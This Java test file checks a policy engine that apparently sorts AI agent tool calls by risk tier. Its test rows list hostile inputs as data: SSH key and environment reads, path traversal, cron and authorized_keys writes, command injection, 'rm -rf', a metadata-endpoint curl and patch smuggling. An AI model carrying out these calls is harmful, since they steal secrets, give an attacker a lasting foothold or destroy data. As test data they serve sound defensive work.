package dev.bailiwick.core.catalog;

import static dev.bailiwick.core.testing.World.CATALOG;
import static dev.bailiwick.core.testing.World.call;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.bailiwick.core.register.Step;
import dev.bailiwick.core.testing.World;
import dev.bailiwick.core.value.Tier;
import dev.bailiwick.json.Json;
import dev.bailiwick.json.JsonException;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CatalogTest {
    private final World world = World.at(Step.PRODUCTION);

    /** One row per sort of call: the tool, its arguments, and the tier that its impact has. */
    @ParameterizedTest(name = "{0} {1} is T{2}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            read            | {"path": "notes/today.md"}                                  | 1
            read            | {"path": "/var/log/app.log"}                                | 1
            read            | {"path": "~/.ssh/id_ed25519"}                               | 4
            read            | {"path": "/home/desk/.openclaw/openclaw.json"}              | 4
            read            | {"path": "/proc/self/environ"}                              | 4
            read            | {"path": "../../etc/passwd"}                                | 3
            read            | {}                                                          | 3
            ls              | {}                                                          | 1
            write           | {"path": "notes/today.md", "content": "x"}                  | 2
            write           | {"path": "/srv/desk/workspace/notes.md", "content": "x"}    | 2
            write           | {"path": "/home/x/.openclaw/workspace/a.md", "content": ""} | 2
            write           | {"path": "/srv/other/notes.md", "content": "x"}             | 4
            write           | {"path": "SOUL.md", "content": "x"}                         | 4
            write           | {"path": "@./docs/../Agents.MD", "content": "x"}            | 4
            write           | {"path": "a/../../b", "content": "x"}                       | 4
            write           | {"path": ".ssh/authorized_keys", "content": "x"}            | 4
            write           | {"path": "skills/new/SKILL.md", "content": "x"}             | 4
            write           | {"path": "/etc/cron.d/x", "content": "x"}                   | 4
            write           | {"path": "file:///srv/desk/workspace/a", "content": "x"}    | 4
            write           | {"path": 7}                                                 | 4
            write           | {"path": "a.md", "file_path": "SOUL.md", "content": "x"}    | 4
            edit            | {"path": "src/a.js", "edits": []}                           | 2
            exec            | {"command": "pwd"}                                          | 1
            exec            | {"command": "pwd", "workdir": "/"}                          | 4
            exec            | {"command": "pwd "}                                         | 1
            exec            | {"command": "pwd", "env": {"PATH": "/tmp"}}                 | 4
            exec            | {"command": "pwd", "elevated": true}                        | 4
            exec            | {"command": "pwd", "background": true, "pty": true}         | 4
            exec            | {"command": "pwd", "host": "node", "node": "x"}             | 4
            exec            | {"command": "pwd", "yieldMs": 100}                          | 1
            exec            | {"command": "ls -l"}                                        | 1
            exec            | {"command": "ls; id"}                                       | 1
            exec            | {"command": "ls; reboot"}                                   | 4
            exec            | {"command": "ls $(reboot)"}                                 | 4
            exec            | {"command": "PATH=. ls"}                                    | 4
            exec            | {"command": "LC_ALL=C sort a.txt"}                          | 1
            exec            | {"command": "./ls"}                                         | 4
            exec            | {"command": "ls\\nid"}                                       | 4
            exec            | {"command": "cat notes/today.md && sort -u a"}            | 1
            exec            | {"command": "cat .ssh/id_rsa"}                              | 4
            exec            | {"command": "cat /proc/self/environ"}                       | 4
            exec            | {"command": "grep -rn TODO ."}                              | 1
            exec            | {"command": "grep -r password /root"}                       | 4
            exec            | {"command": "tar czf all.tgz /"}                            | 4
            exec            | {"command": "cp -r /home/ana/. here"}                       | 4
            exec            | {"command": "tail -n 5 /var/log/shop.log"}                  | 1
            exec            | {"command": "env"}                                          | 4
            exec            | {"command": "sort a.txt > b.txt"}                           | 2
            exec            | {"command": "sort a.txt -o /srv/desk/workspace/b.txt"}      | 2
            exec            | {"command": "sort a.txt > SOUL.md"}                         | 4
            exec            | {"command": "cp a.txt ."}                                   | 4
            exec            | {"command": "tar xf a.tar"}                                 | 4
            exec            | {"command": "rm -r build"}                                  | 2
            exec            | {"command": "rm -rf ."}                                     | 4
            exec            | {"command": "touch /etc/x"}                                 | 4
            bailiwick.run   | {"arguments": ["cat", "a.txt"], "program": "/usr/bin/cat", "bytes": "0", "folder": "/", "profile": "0"} | 1
            bailiwick.run   | {"arguments": ["cat", "a; reboot", "$(id)", "it's", "b c"]} | 1
            bailiwick.run   | {"arguments": ["rm", "-r", "build"]}                        | 2
            bailiwick.run   | {"arguments": ["rm", "-rf", "."]}                           | 4
            bailiwick.run   | {"arguments": ["sudo", "cat", "a.txt"]}                     | 4
            bailiwick.run   | {"arguments": ["cat", "a\\u202eb"]}                         | 4
            bailiwick.run   | {"arguments": ["cat", "a.txt"], "asks": "look"}             | 4
            bailiwick.run   | {"arguments": ["cat", "a.txt"], "environment": {}}          | 4
            bailiwick.run   | {"arguments": "cat a.txt"}                                  | 4
            bailiwick.run   | {"arguments": ["cat", 7]}                                   | 4
            bailiwick.run   | {"arguments": []}                                           | 4
            bailiwick.run   | {}                                                          | 4
            bailiwick.install | {"type": "skill", "name": "notes"}                          | 4
            exec            | {"command": "curl https://wiki.corp.example/"}              | 3
            exec            | {"command": "curl http://169.254.169.254/latest"}           | 4
            exec            | {"command": "curl -K x https://wiki.corp.example/"}         | 4
            exec            | {"command": "cd sub && rm x && cat ../y"}                   | 2
            exec            | {"command": "cd .git && tee hooks/pre-commit"}              | 4
            exec            | {"command": "sort --compress-program=sh a"}                 | 4
            exec            | {"command": "sudo ls"}                                      | 4
            exec            | {}                                                          | 4
            code_mode_exec  | {"code": "1"}                                               | 4
            process         | {"action": "poll", "sessionId": "a"}                        | 1
            process         | {"action": "kill", "sessionId": "a"}                        | 2
            process         | {"action": "submit", "sessionId": "a"}                      | 4
            process         | {"action": "Poll"}                                          | 4
            web_search      | {"query": "prices"}                                         | 3
            web_fetch       | {"url": "https://wiki.corp.example/a?b=c"}                  | 1
            web_fetch       | {"url": "http://10.1.2.3:9000/"}                            | 1
            web_fetch       | {"url": "http://10.2.2.3/"}                                 | 3
            web_fetch       | {"url": "http://localhost:8080/"}                           | 1
            web_fetch       | {"url": "http://localhost:8081/"}                           | 4
            web_fetch       | {"url": "http://169.254.169.254/latest/meta-data"}          | 4
            web_fetch       | {"url": "http://[::ffff:10.1.2.3]/"}                        | 3
            web_fetch       | {"url": "https://x.example/?d=abc"}                         | 3
            web_fetch       | {"url": "https://docs.example.org/"}                        | 3
            browser         | {"action": "snapshot"}                                      | 1
            browser         | {"action": "open", "url": "https://wiki.corp.example/"}     | 2
            browser         | {"action": "open", "url": "https://x.example/"}             | 3
            browser         | {"action": "act", "kind": "click", "ref": "e1"}             | 3
            browser         | {"action": "act", "kind": "evaluate", "fn": "1"}            | 4
            message         | {"action": "read", "target": "slack:C9"}                    | 1
            message         | {"action": "send", "channel": "slack", "target": "C0123", "message": "hi"} | 2
            message         | {"action": "send", "channel": "slack", "target": "C9999", "message": "hi"} | 3
            message         | {"action": "send", "message": "hi"}                         | 3
            message         | {"action": "role-add", "target": "x"}                       | 4
            sessions_spawn  | {"task": "x"}                                               | 2
            sessions_spawn  | {"task": "x", "runtime": "acp"}                             | 4
            sessions_spawn  | {"task": "x", "agentId": "other"}                           | 3
            subagents       | {"action": "list"}                                          | 1
            cron            | {"action": "list"}                                          | 1
            cron            | {"action": "add", "job": {"payload": {"kind": "agentTurn", "message": "x"}}} | 3
            cron            | {"action": "add", "job": {"payload": {"kind": "command", "argv": ["x"]}}}    | 4
            cron            | {"action": "add", "job": {"payload": {"kind": " Command"}}} | 4
            cron            | {"action": "add", "job": "{}"}                              | 4
            automations     | {"action": "run", "jobId": "x"}                             | 4
            cron            | {"action": "list", "gatewayUrl": "ws://x"}                  | 4
            gateway         | {"action": "update.run"}                                    | 4
            gateway         | {"action": "config.schema.lookup"}                          | 1
            plugins         | {"action": "disable", "id": "x"}                            | 4
            nodes           | {"action": "invoke"}                                        | 4
            canvas          | {"action": "present", "url": "https://x.example/"}          | 3
            view_image      | {"path": "a.png"}                                           | 1
            view_image      | {"path": "https://x.example/a.png?d=1"}                     | 3
            pdf             | {"pdfs": ["a.pdf", "https://x.example/a.pdf"]}              | 3
            apply_patch     | {"input": "*** Begin Patch\\n*** Add File: a.txt\\n+x\\n*** End Patch"}        | 2
            apply_patch     | {"input": "*** Begin Patch\\n*** Update File: a.txt\\n*** Move to: SOUL.md\\n*** End Patch"} | 4
            apply_patch     | {"input": "*** Add File: a\\r/../SOUL.md\\n+x"}              | 4
            apply_patch     | {"input": "*** Add File: a.txt\\n+x\\n\\u00a0*** Update File: SOUL.md"} | 4
            apply_patch     | {"input": "*** Add File: a.txt\\n+x\\n\\ufeff *** Update File: SOUL.md"} | 4
            apply_patch     | {"input": "*** Add File: a.txt\\n+*** Update File: SOUL.md"} | 2
            apply_patch     | {"input": "*** Add File: a.txt\\n*** Update File:SOUL.md"}  | 4
            apply_patch     | {"input": "nothing"}                                        | 4
            memory_search   | {"query": "x"}                                              | 1
            tts             | {"text": "x"}                                               | 3
            lab__echo       | {"text": "x"}                                               | 4
            Exec            | {"command": "pwd"}                                          | 4
            crm.read        | {"id": "7"}                                                 | 1
            crm.update      | {"id": "7"}                                                 | 3
            payments.refund | {"payment": "p1", "amount": 10, "currency": "EUR"}          | 3
            payments.void   | {"payment": "p1"}                                           | 4
            mail.send       | {"to": ["bea@corp.example"], "text": "x"}                   | 2
            mail.send       | {"to": "bea@corp.example", "bcc": "x@example.org"}          | 3
            mail.send       | {"to": "bea@corp.example, x@example.org"}                   | 3
            wiki.update     | {"page": "a"}                                               | 2
            files.upload    | {"path": "a", "destination": "https://x.example/"}          | 3
            files.upload    | {"path": "a", "destination": "https://wiki.corp.example/"}  | 2
            deploy.release  | {"service": "web"}                                          | 4
            deploy.status   | {"service": "web"}                                          | 1
            logs.read       | {"source": "web"}                                           | 1
            iam.grant       | {"role": "admin"}                                           | 4
            """)
    void the_concrete_call_decides_the_tier(String tool, String arguments, int tier) {
        var operation = world.judge(call(tool, arguments)).operation();
        assertThat(operation.tier()).as("%s", operation).isEqualTo(Tier.of(tier));
        assertThat(operation.because()).as("every operation explains itself").isNotEmpty();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            web_fetch       | {"url": "https://wiki.corp.example/?key=AKIAIOSFODNN7EXAMPLE"}
            web_fetch       | {"url": "https://wiki.corp.example/%41KIAIOSFODNN7EXAMPLE"}
            web_fetch       | {"url": "https://wiki.corp.example/QUtJQUlPU0ZPRE5ON0VYQU1QTEU="}
            web_fetch       | {"url": "https://wiki.corp.example/?password=hunter2"}
            web_fetch       | {"url": "https://ana@x.example/"}
            web_fetch       | {"url": "https://wiki.corp.example\\\\@x.example/"}
            web_fetch       | {"url": "http://0x7f.1/"}
            web_fetch       | {"url": "file:///etc/passwd"}
            message         | {"action": "send", "target": "a", "message": "-----BEGIN RSA PRIVATE KEY-----"}
            payments.refund | {"amount": -1}
            payments.refund | {"amount": "1e3"}
            payments.refund | {"amount": 10, "currency": "euro"}
            payments.refund | {}
            lab__get        | {"where": "https://x.example/?t=ghp_abcdefghijklmnopqrstuvwxyz0123456789"}
            """)
    void what_nobody_may_approve_is_a_hazard(String tool, String arguments) {
        assertThat(world.judge(call(tool, arguments)).operation().hazard()).isNotEmpty();
    }

    @Test
    void a_meeting_is_tier_2_until_somebody_from_outside_is_invited() {
        assertThat(world.tier("calendar.invite", "{\"attendees\": [\"ana@corp.example\"]}"))
                .isEqualTo(Tier.T2);
        assertThat(world.tier("calendar.invite", "{\"attendees\": [\"ana@corp.example\", \"kim@else.example\"]}"))
                .isEqualTo(Tier.T3);
        assertThat(world.tier("calendar.invite", "{\"title\": \"who comes?\"}")).isEqualTo(Tier.T3);
        assertThat(world.tier("wiki.update", "{\"page\": \"plan\"}")).isEqualTo(Tier.T2);
        assertThat(world.tier("wiki.publish", "{\"page\": \"plan\"}")).isEqualTo(Tier.T3);
    }

    @Test
    void a_channel_is_inside_outside_or_closed() {
        var closed = World.closing("slack:#hr-*");
        assertThat(closed.tier("chat.send", "{\"network\": \"slack\", \"to\": \"C0123\"}"))
                .isEqualTo(Tier.T2);
        assertThat(closed.tier("chat.send", "{\"network\": \"slack\", \"to\": \"C9\"}"))
                .isEqualTo(Tier.T3);
        for (var arguments :
                List.of("{\"network\": \"slack\", \"to\": \"#hr-confidential\"}", "{\"to\": \"#hr-confidential\"}"))
            assertThat(closed.judge(call("chat.send", arguments)).operation().hazard())
                    .contains("this recipient is closed to agents");
    }

    @Test
    void every_name_that_only_carries_another_call_is_known() {
        assertThat(CATALOG.tools().stream().filter(CATALOG::carriesOtherCalls))
                .containsExactly("code_mode_exec_isolated", "tool_call", "tool_describe", "tool_search", "wait");
    }

    @Test
    void a_page_the_person_named_on_a_listed_site_is_an_internal_effect_only() {
        var told = world.hearing("please read docs.example.org/prices and https://docs.example.org/a?b=c#d, thanks");
        assertThat(told.tier("web_fetch", "{\"url\": \"https://docs.example.org/prices\"}"))
                .isEqualTo(Tier.T2);
        assertThat(told.tier("web_fetch", "{\"url\": \"https://docs.example.org/a?b=c\"}"))
                .isEqualTo(Tier.T2);
        assertThat(told.tier("web_fetch", "{\"url\": \"https://docs.example.org/a?b=x\"}"))
                .isEqualTo(Tier.T3);
        assertThat(told.tier("web_fetch", "{\"url\": \"https://docs.example.org/prices?d=x\"}"))
                .isEqualTo(Tier.T3);
        assertThat(told.tier("web_fetch", "{\"url\": \"https://docs.example.org/prices#x\"}"))
                .isEqualTo(Tier.T3);
        assertThat(told.tier("web_fetch", "{\"url\": \"https://x.example/prices\"}"))
                .isEqualTo(Tier.T3);
    }

    @Test
    void a_link_vouches_for_pages_of_its_own_site_only() {
        var read = world.reading(
                "https://docs.example.org/",
                "see [b](/b) and https://docs.example.org/c and https://a.news.example.org/d");
        assertThat(read.tier("web_fetch", "{\"url\": \"https://docs.example.org/b\"}"))
                .isEqualTo(Tier.T2);
        assertThat(read.tier("web_fetch", "{\"url\": \"https://docs.example.org/c\"}"))
                .isEqualTo(Tier.T2);
        assertThat(read.tier("web_fetch", "{\"url\": \"https://a.news.example.org/d\"}"))
                .isEqualTo(Tier.T3);
    }

    @Test
    void nobody_vouches_where_commands_speak_for_the_gateway() {
        var told = world.hearing("read https://docs.example.org/prices");
        var attempt = call(World.LAB, "web_fetch", "{\"url\": \"https://docs.example.org/prices\"}");
        assertThat(told.judge(attempt).operation().tier()).isEqualTo(Tier.T3);
    }

    @Test
    void a_tool_of_a_server_is_named_by_its_server() {
        var operation = world.judge(call("lab__echo", "{}")).operation();
        assertThat(operation.classified()).isFalse();
        assertThat(operation.target()).isEqualTo("lab");
    }

    @Test
    void a_data_file_with_an_unknown_member_is_refused_with_its_place() {
        var file = Json.parseObject("""
                {"format": "bailiwick-catalog-1", "operations": [{"tools": ["a"], "id": "a", "othervise": {}}]}
                """);
        assertThatThrownBy(() -> Catalog.of(List.of(file)))
                .isInstanceOf(JsonException.class)
                .hasMessageContaining("/operations/0/otherwise");
    }

    @Test
    void a_case_may_not_be_stricter_than_what_is_done_otherwise() {
        var file = Json.parseObject("""
                {"format": "bailiwick-catalog-1", "operations": [{"tools": ["a"], "id": "a", "by": "x",
                  "cases": [{"values": ["y"], "verb": "write", "tier": 3}], "otherwise": {"verb": "read", "tier": 1}}]}
                """);
        assertThatThrownBy(() -> Catalog.of(List.of(file))).hasMessageContaining("as strict as each case");
    }

    @Test
    void a_tool_stands_in_the_catalogue_once() {
        var file = Json.parseObject("""
                {"format": "bailiwick-catalog-1", "operations": [
                  {"tools": ["a"], "id": "a", "otherwise": {"verb": "read", "tier": 1}},
                  {"tools": ["a"], "id": "b", "otherwise": {"verb": "read", "tier": 1}}]}
                """);
        assertThatThrownBy(() -> Catalog.of(List.of(file))).hasMessageContaining("twice");
    }

    @Test
    void the_version_follows_the_content() {
        assertThat(Catalog.of(List.of()).version()).isNotEqualTo(CATALOG.version());
    }
}
